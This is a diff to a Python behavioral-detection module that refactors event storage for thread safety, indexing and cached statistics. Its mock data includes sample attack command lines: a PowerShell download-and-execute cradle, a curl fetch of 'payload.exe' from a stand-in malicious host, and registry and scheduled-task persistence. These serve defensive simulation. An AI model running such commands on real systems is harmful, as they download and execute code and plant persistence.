@@ -6,14 +6,79 @@ that may indicate malicious intent.
 """
 
 import logging
+import queue
+import threading
+import time
 import uuid
 import random
-from typing import Dict, List, Any, Optional
-from datetime import datetime, timedelta
+import orjson
+from collections import Counter, defaultdict, deque
+from itertools import islice
+from types import MappingProxyType
+from typing import Dict, List, Any, Optional, Tuple
+from datetime import datetime
 from utils.common import get_timestamp
 
 logger = logging.getLogger(__name__)
 
+SEVERITIES = ('low', 'medium', 'high')
+
+# Mock data used by the event simulation
+MOCK_PROCESSES = (
+    'powershell.exe',
+    'cmd.exe',
+    'rundll32.exe',
+    'regsvr32.exe',
+    'mshta.exe',
+    'wscript.exe'
+)
+
+MOCK_HOSTS = (
+    'WIN-SRV-01',
+    'WIN-WKS-05',
+    'WIN-WKS-12',
+    'WIN-WKS-23',
+    'WIN-SRV-02'
+)
+
+MOCK_BEHAVIOR_PATTERNS = (
+    ('encoded_command_executed', 'base64_detected'),
+    ('child_from_temp_folder', 'unusual_parent'),
+    ('registry_modification', 'autorun_created'),
+    ('process_injection', 'memory_manipulation'),
+    ('outbound_conn_unusual', 'c2_communication'),
+    ('file_created_startup', 'persistence_mechanism')
+)
+
+# Patterns that always produce high severity events
+HIGH_SEVERITY_PATTERNS = frozenset(
+    pattern for pattern in MOCK_BEHAVIOR_PATTERNS
+    if any('injection' in b or 'encoded' in b for b in pattern)
+)
+
+MOCK_PARENTS = ('explorer.exe', 'services.exe', 'svchost.exe')
+MOCK_USERS = ('SYSTEM', 'Administrator')
+MOCK_USER_WEIGHTS = (0.3, 0.7)
+MOCK_PID_RANGE = range(1000, 10000)
+
+# Sample command lines per mock process; others fall back to "<process> <args>"
+MOCK_CMDLINES = MappingProxyType({
+    'powershell.exe': (
+        'powershell.exe -enc JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAEkATwAuAE0A...',
+        'powershell.exe -w hidden -nop -c "IEX (New-Object Net.WebClient).DownloadString(...)"',
+        'powershell.exe -ExecutionPolicy Bypass -File malicious.ps1'
+    ),
+    'cmd.exe': (
+        'cmd.exe /c reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater',
+        'cmd.exe /c schtasks /create /tn "SystemUpdate" /tr C:\\temp\\update.exe',
+        'cmd.exe /c curl http://malicious.com/payload.exe -o C:\\temp\\update.exe'
+    ),
+    'rundll32.exe': (
+        'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication";...',
+        'rundll32.exe C:\\Users\\Public\\malicious.dll,EntryPoint'
+    )
+})
+
 
 class BehaviorWatcher:
     """
@@ -28,21 +93,58 @@ class BehaviorWatcher:
     - Encoded command execution
     """
     
-    def __init__(self):
-        """Initialize the behavior watcher."""
-        self.events = []  # Event storage
+    # Severity ordering used when aggregating events
+    _SEV_RANK = {'low': 1, 'medium': 2, 'high': 3}
+    _SEV_BY_RANK = ('', 'low', 'medium', 'high')
+    
+    # Maximum age of a cached statistics snapshot, in seconds
+    STATS_CACHE_TTL = 1.0
+    
+    def __init__(self, max_events: int = 1000):
+        """
+        Initialize the behavior watcher.
+        
+        Args:
+            max_events: Ring buffer size; the oldest events are dropped beyond it
+        """
+        self.max_events = max_events
+        self.events = deque(maxlen=self.max_events)  # Event storage (oldest first)
         self.rules = self._initialize_rules()
-        self.max_events = 1000  # Ring buffer size
+        
+        # Incrementally maintained indexes so reads never scan the full buffer
+        self._by_severity = defaultdict(deque)
+        self._by_host_pid = defaultdict(deque)
+        self._severity_counts = Counter()
+        self._host_counts = Counter()
+        self._process_counts = Counter()
+        
+        # Guards event mutations under the threaded WSGI server
+        self._lock = threading.RLock()
+        
+        # Live stream subscribers, each fed by add_event
+        self._subscribers = set()
+        
+        # Bumped on every change to the event buffer; used for HTTP ETags
+        self._version = 0
+        
+        # Memoized get_statistics result, valid for one version and at most
+        # STATS_CACHE_TTL seconds (recent_activity depends on wall time).
+        # One (version, expiry, stats) tuple, replaced in a single assignment
+        # so readers never pair stats with another version
+        self._stats_cache = (-1, 0.0, None)
         logger.info("BehaviorWatcher initialized")
     
-    def _initialize_rules(self) -> List[Dict]:
+    def _initialize_rules(self) -> Tuple[Dict, ...]:
         """
         Initialize behavioral detection rules.
         
+        Also builds the behavior -> rule_id reverse index used by
+        analyze_behavior and the pre-serialized rules_json payload.
+        
         Returns:
-            List of rule definitions
+            Tuple of rule definitions
         """
-        return [
+        rules = [
             {
                 'rule_id': 'BR-001',
                 'name': 'Encoded Command Execution',
@@ -84,6 +186,17 @@ class BehaviorWatcher:
                 'severity': 'medium'
             }
         ]
+        
+        self._rule_by_id = {rule['rule_id']: rule for rule in rules}
+        self._behavior_to_rules = defaultdict(set)
+        for rule in rules:
+            for behavior in rule['behaviors']:
+                self._behavior_to_rules[behavior].add(rule['rule_id'])
+        
+        # Rules never change after startup, so serialize them once
+        self.rules_json = orjson.dumps({'rules': rules, 'count': len(rules)})
+        
+        return tuple(rules)
     
     def get_events(self, limit: int = 50, severity: Optional[str] = None) -> List[Dict]:
         """
@@ -96,13 +209,18 @@ class BehaviorWatcher:
         Returns:
             List of behavioral events
         """
-        filtered = self.events
-        
-        if severity:
-            filtered = [e for e in filtered if e['severity'] == severity]
-        
-        # Return most recent events
-        return sorted(filtered, key=lambda x: x['timestamp'], reverse=True)[:limit]
+        # Iterating a deque while another thread appends to it raises, so
+        # copy the slice under the lock and build the output afterwards
+        with self._lock:
+            if severity:
+                source = self._by_severity.get(severity, ())
+            else:
+                source = self.events
+            
+            # Insertion order is chronological, so walk backwards for most recent
+            recent = list(islice(reversed(source), max(limit, 0)))
+        
+        return [public_event(e) for e in recent]
     
     def generate_mock_event(self) -> Dict[str, Any]:
         """
@@ -112,83 +230,62 @@ class BehaviorWatcher:
         Returns:
             Behavioral event dictionary
         """
-        processes = [
-            'powershell.exe',
-            'cmd.exe', 
-            'rundll32.exe',
-            'regsvr32.exe',
-            'mshta.exe',
-            'wscript.exe'
-        ]
-        
-        hosts = [
-            'WIN-SRV-01',
-            'WIN-WKS-05',
-            'WIN-WKS-12',
-            'WIN-WKS-23',
-            'WIN-SRV-02'
-        ]
+        return self._generate_mock_events(1)[0]
+    
+    def _generate_mock_events(self, count: int) -> List[Dict[str, Any]]:
+        """
+        Generate a batch of mock behavioral events.
         
-        behavior_patterns = [
-            ['encoded_command_executed', 'base64_detected'],
-            ['child_from_temp_folder', 'unusual_parent'],
-            ['registry_modification', 'autorun_created'],
-            ['process_injection', 'memory_manipulation'],
-            ['outbound_conn_unusual', 'c2_communication'],
-            ['file_created_startup', 'persistence_mechanism']
-        ]
+        Every random field is drawn for the whole batch at once.
         
-        severities = ['low', 'medium', 'high']
-        confidences = ['low', 'medium', 'high']
-        
-        process = random.choice(processes)
-        behaviors = random.choice(behavior_patterns)
-        severity = random.choice(severities)
-        
-        # High severity more likely for certain behaviors
-        if 'injection' in str(behaviors) or 'encoded' in str(behaviors):
-            severity = 'high'
-        
-        event = {
-            'event_id': f"beh-{uuid.uuid4().hex[:8]}",
-            'type': 'behavior_alert',
-            'host': random.choice(hosts),
-            'process': process,
-            'pid': random.randint(1000, 9999),
-            'parent': random.choice(['explorer.exe', 'services.exe', 'svchost.exe']),
-            'behavior': behaviors,
-            'severity': severity,
-            'confidence': random.choice(confidences),
-            'timestamp': get_timestamp(),
-            'details': {
-                'command_line': self._generate_mock_cmdline(process),
-                'user': 'SYSTEM' if random.random() > 0.7 else 'Administrator'
-            }
-        }
+        Args:
+            count: Number of events to generate
         
-        return event
+        Returns:
+            List of behavioral event dictionaries
+        """
+        processes = random.choices(MOCK_PROCESSES, k=count)
+        hosts = random.choices(MOCK_HOSTS, k=count)
+        patterns = random.choices(MOCK_BEHAVIOR_PATTERNS, k=count)
+        severities = random.choices(SEVERITIES, k=count)
+        confidences = random.choices(SEVERITIES, k=count)
+        parents = random.choices(MOCK_PARENTS, k=count)
+        users = random.choices(MOCK_USERS, weights=MOCK_USER_WEIGHTS, k=count)
+        pids = random.choices(MOCK_PID_RANGE, k=count)
+        event_ids = [uuid.uuid4().hex[:8] for _ in range(count)]
+        
+        events = []
+        for i in range(count):
+            process = processes[i]
+            behaviors = patterns[i]
+            
+            # High severity more likely for certain behaviors
+            severity = 'high' if behaviors in HIGH_SEVERITY_PATTERNS else severities[i]
+            
+            events.append({
+                'event_id': f"beh-{event_ids[i]}",
+                'type': 'behavior_alert',
+                'host': hosts[i],
+                'process': process,
+                'pid': pids[i],
+                'parent': parents[i],
+                'behavior': list(behaviors),
+                'severity': severity,
+                'confidence': confidences[i],
+                'timestamp': get_timestamp(),
+                'details': {
+                    'command_line': self._generate_mock_cmdline(process),
+                    'user': users[i]
+                }
+            })
+        
+        return events
     
     def _generate_mock_cmdline(self, process: str) -> str:
         """Generate mock command line for a process."""
-        cmdlines = {
-            'powershell.exe': [
-                'powershell.exe -enc JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAEkATwAuAE0A...',
-                'powershell.exe -w hidden -nop -c "IEX (New-Object Net.WebClient).DownloadString(...)"',
-                'powershell.exe -ExecutionPolicy Bypass -File malicious.ps1'
-            ],
-            'cmd.exe': [
-                'cmd.exe /c reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater',
-                'cmd.exe /c schtasks /create /tn "SystemUpdate" /tr C:\\temp\\update.exe',
-                'cmd.exe /c curl http://malicious.com/payload.exe -o C:\\temp\\update.exe'
-            ],
-            'rundll32.exe': [
-                'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication";...',
-                'rundll32.exe C:\\Users\\Public\\malicious.dll,EntryPoint'
-            ]
-        }
-        
-        if process in cmdlines:
-            return random.choice(cmdlines[process])
+        cmdlines = MOCK_CMDLINES.get(process)
+        if cmdlines:
+            return random.choice(cmdlines)
         
         return f'{process} <args>'
     
@@ -202,28 +299,102 @@ class BehaviorWatcher:
         Returns:
             Confirmation
         """
-        # Add timestamp if not present
+        # Add timestamp if not present, keeping a numeric copy for cheap
+        # time-window comparisons
         if 'timestamp' not in event:
             event['timestamp'] = get_timestamp()
+            event['_ts_epoch'] = time.time()
+        else:
+            event['_ts_epoch'] = _parse_epoch(event['timestamp'])
+        
+        event['_sev_rank'] = self._SEV_RANK.get(event.get('severity'), 1)
         
         # Add event_id if not present
         if 'event_id' not in event:
             event['event_id'] = f"beh-{uuid.uuid4().hex[:8]}"
         
-        # Add to events (ring buffer)
-        self.events.append(event)
-        
-        # Maintain max size
-        if len(self.events) > self.max_events:
-            self.events = self.events[-self.max_events:]
+        with self._lock:
+            # Ring buffer is full - the append below evicts the oldest event
+            if len(self.events) == self.max_events:
+                self._unindex_event(self.events[0])
+            
+            self.events.append(event)
+            self._index_event(event)
+            self._version += 1
+            
+            self._publish(event)
         
-        logger.info(f"Behavioral event added: {event['event_id']} - {event.get('process', 'unknown')}")
+        logger.info("Behavioral event added: %s - %s", event['event_id'], event.get('process', 'unknown'))
         
         return {
             'status': 'success',
             'event_id': event['event_id']
         }
     
+    @property
+    def version(self) -> int:
+        """Counter that changes whenever events are added or cleared."""
+        return self._version
+    
+    def subscribe(self, max_pending: int = 100) -> queue.Queue:
+        """
+        Register a live stream subscriber.
+        
+        Args:
+            max_pending: Maximum undelivered events kept for a slow subscriber
+        
+        Returns:
+            Queue that receives every newly added event
+        """
+        subscriber = queue.Queue(maxsize=max_pending)
+        with self._lock:
+            self._subscribers.add(subscriber)
+        return subscriber
+    
+    def unsubscribe(self, subscriber: queue.Queue) -> None:
+        """Remove a live stream subscriber."""
+        with self._lock:
+            self._subscribers.discard(subscriber)
+    
+    def _publish(self, event: Dict[str, Any]) -> None:
+        """Push an event to all stream subscribers without blocking."""
+        for subscriber in self._subscribers:
+            try:
+                subscriber.put_nowait(event)
+            except queue.Full:
+                # Slow consumer - drop rather than stall the writer
+                logger.debug("Stream subscriber queue full, dropping event")
+    
+    def _index_event(self, event: Dict[str, Any]) -> None:
+        """Add an event to the severity index and running counters."""
+        severity = event.get('severity')
+        self._by_severity[severity].append(event)
+        self._by_host_pid[(event.get('host'), event.get('pid'))].append(event)
+        self._severity_counts[severity] += 1
+        self._host_counts[event.get('host', '')] += 1
+        self._process_counts[event.get('process', '')] += 1
+    
+    def _unindex_event(self, event: Dict[str, Any]) -> None:
+        """Remove an event being evicted from the ring buffer from all indexes."""
+        severity = event.get('severity')
+        
+        # The evicted event is the oldest overall, so it is also the oldest
+        # entry in its severity and process buckets
+        bucket = self._by_severity[severity]
+        bucket.popleft()
+        if not bucket:
+            del self._by_severity[severity]
+        
+        process_key = (event.get('host'), event.get('pid'))
+        bucket = self._by_host_pid[process_key]
+        bucket.popleft()
+        if not bucket:
+            del self._by_host_pid[process_key]
+        
+        _decrement(self._severity_counts, severity)
+        _decrement(self._host_counts, event.get('host', ''))
+        _decrement(self._process_counts, event.get('process', ''))
+    
     def analyze_behavior(self, host: str, pid: int) -> Dict[str, Any]:
         """
         Analyze behavior for a specific process.
@@ -236,10 +407,8 @@ class BehaviorWatcher:
             Analysis results
         """
         # Find events for this process
-        process_events = [
-            e for e in self.events 
-            if e.get('host') == host and e.get('pid') == pid
-        ]
+        with self._lock:
+            process_events = list(self._by_host_pid.get((host, pid), ()))
         
         if not process_events:
             return {
@@ -247,36 +416,33 @@ class BehaviorWatcher:
                 'message': f'No events found for {host}:{pid}'
             }
         
-        # Aggregate behaviors
-        all_behaviors = []
+        # Aggregate unique behaviors
+        unique_behaviors = set()
         for event in process_events:
-            all_behaviors.extend(event.get('behavior', []))
-        
-        # Get unique behaviors
-        unique_behaviors = list(set(all_behaviors))
+            unique_behaviors.update(event.get('behavior', ()))
         
         # Determine overall severity
-        severities = [e.get('severity', 'low') for e in process_events]
-        severity_map = {'high': 3, 'medium': 2, 'low': 1}
-        max_severity_num = max(severity_map.get(s, 1) for s in severities)
-        overall_severity = {3: 'high', 2: 'medium', 1: 'low'}[max_severity_num]
-        
-        # Match against rules
-        matched_rules = []
-        for rule in self.rules:
-            rule_behaviors = rule['behaviors']
-            if any(b in unique_behaviors for b in rule_behaviors):
-                matched_rules.append({
-                    'rule_id': rule['rule_id'],
-                    'name': rule['name'],
-                    'severity': rule['severity']
-                })
+        max_rank = max(e['_sev_rank'] for e in process_events)
+        overall_severity = self._SEV_BY_RANK[max_rank]
+        
+        # Match against rules via the behavior -> rule reverse index
+        matched_ids = set().union(
+            *(self._behavior_to_rules.get(b, ()) for b in unique_behaviors)
+        )
+        matched_rules = [
+            {
+                'rule_id': rule_id,
+                'name': self._rule_by_id[rule_id]['name'],
+                'severity': self._rule_by_id[rule_id]['severity']
+            }
+            for rule_id in sorted(matched_ids)
+        ]
         
         return {
             'host': host,
             'pid': pid,
             'event_count': len(process_events),
-            'behaviors': unique_behaviors,
+            'behaviors': list(unique_behaviors),
             'overall_severity': overall_severity,
             'matched_rules': matched_rules,
             'recommendation': self._get_recommendation(overall_severity, matched_rules)
@@ -297,58 +463,71 @@ class BehaviorWatcher:
         """
         Get behavioral monitoring statistics.
         
+        Results are cached until the event buffer changes or
+        STATS_CACHE_TTL elapses.
+        
         Returns:
-            Statistics dictionary
+            Statistics dictionary (a copy; callers may modify it)
         """
-        total_events = len(self.events)
-        
-        if total_events == 0:
-            return {
-                'total_events': 0,
-                'by_severity': {'low': 0, 'medium': 0, 'high': 0},
-                'unique_hosts': 0,
-                'unique_processes': 0
+        now = time.monotonic()
+        cached_version, expiry, stats = self._stats_cache
+        if stats is not None and cached_version == self._version and now < expiry:
+            return dict(stats, by_severity=dict(stats['by_severity']))
+        
+        # Take a consistent snapshot, then do the counting without the lock
+        with self._lock:
+            version = self._version
+            total_events = len(self.events)
+            
+            # Count by severity
+            by_severity = {
+                'low': self._severity_counts['low'],
+                'medium': self._severity_counts['medium'],
+                'high': self._severity_counts['high']
             }
-        
-        # Count by severity
-        by_severity = {
-            'low': sum(1 for e in self.events if e.get('severity') == 'low'),
-            'medium': sum(1 for e in self.events if e.get('severity') == 'medium'),
-            'high': sum(1 for e in self.events if e.get('severity') == 'high')
-        }
-        
-        # Unique hosts and processes
-        unique_hosts = len(set(e.get('host', '') for e in self.events))
-        unique_processes = len(set(e.get('process', '') for e in self.events))
+            
+            # Unique hosts and processes
+            unique_hosts = len(self._host_counts)
+            unique_processes = len(self._process_counts)
+            
+            timestamps = [e['_ts_epoch'] for e in self.events]
         
         # Recent activity (last hour)
-        one_hour_ago = datetime.now() - timedelta(hours=1)
-        recent_events = [
-            e for e in self.events 
-            if datetime.fromisoformat(e['timestamp'].replace('Z', '+00:00')) > one_hour_ago
-        ]
+        cutoff = time.time() - 3600
+        recent_events = sum(1 for ts in timestamps if ts > cutoff)
         
-        return {
+        stats = {
             'total_events': total_events,
             'by_severity': by_severity,
             'unique_hosts': unique_hosts,
             'unique_processes': unique_processes,
-            'recent_activity': len(recent_events),
+            'recent_activity': recent_events,
             'rules_loaded': len(self.rules)
         }
+        
+        self._stats_cache = (version, now + self.STATS_CACHE_TTL, stats)
+        
+        return dict(stats, by_severity=dict(by_severity))
     
     def clear_events(self) -> Dict[str, Any]:
         """Clear all events (for testing)."""
-        count = len(self.events)
-        self.events = []
-        logger.info(f"Cleared {count} behavioral events")
+        with self._lock:
+            count = len(self.events)
+            self.events.clear()
+            self._by_severity.clear()
+            self._by_host_pid.clear()
+            self._severity_counts.clear()
+            self._host_counts.clear()
+            self._process_counts.clear()
+            self._version += 1
+        logger.info("Cleared %s behavioral events", count)
         
         return {
             'status': 'success',
             'cleared': count
         }
     
-    def get_rules(self) -> List[Dict]:
+    def get_rules(self) -> Tuple[Dict, ...]:
         """Get all behavioral detection rules."""
         return self.rules
     
@@ -365,15 +544,34 @@ class BehaviorWatcher:
         """
         generated = []
         
-        for _ in range(event_count):
-            event = self.generate_mock_event()
+        for event in self._generate_mock_events(event_count):
             self.add_event(event)
             generated.append(event['event_id'])
         
-        logger.info(f"Generated {event_count} mock behavioral events")
+        logger.info("Generated %s mock behavioral events", event_count)
         
         return {
             'status': 'success',
             'generated': event_count,
             'event_ids': generated
         }
+
+
+def public_event(event: Dict[str, Any]) -> Dict[str, Any]:
+    """Return a copy of an event without internal bookkeeping fields."""
+    return {k: v for k, v in event.items() if not k.startswith('_')}
+
+
+def _parse_epoch(timestamp: Any) -> float:
+    """Convert an ISO 8601 timestamp to epoch seconds, falling back to now."""
+    try:
+        return datetime.fromisoformat(str(timestamp).replace('Z', '+00:00')).timestamp()
+    except ValueError:
+        return time.time()
+
+
+def _decrement(counter: Counter, key: Any) -> None:
+    """Decrement a counter entry, dropping it once it reaches zero."""
+    counter[key] -= 1
+    if counter[key] <= 0:
+        del counter[key]